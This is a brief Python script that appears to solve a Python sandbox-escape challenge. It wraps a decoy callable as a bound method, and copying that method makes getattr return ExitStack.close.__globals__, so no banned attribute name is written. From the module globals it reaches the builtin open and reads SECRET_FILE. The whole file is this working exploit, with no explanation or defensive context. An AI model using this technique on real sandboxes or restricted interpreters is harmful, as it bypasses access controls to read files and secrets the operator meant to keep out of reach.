# Copying a bound method asks its owner for the name that the function gives: any locked word.
import copy
from contextlib import ExitStack

class Named:
    def __init__(self, word):
        self.word = word

    def __getattr__(self, name):
        return self.word

    def __call__(self, *rest):
        return None

Method = type(ExitStack().close)
names = copy.copy(Method(Named("__globals__"), ExitStack.close))
print(names["__builtins__"]["open"](SECRET_FILE).read())
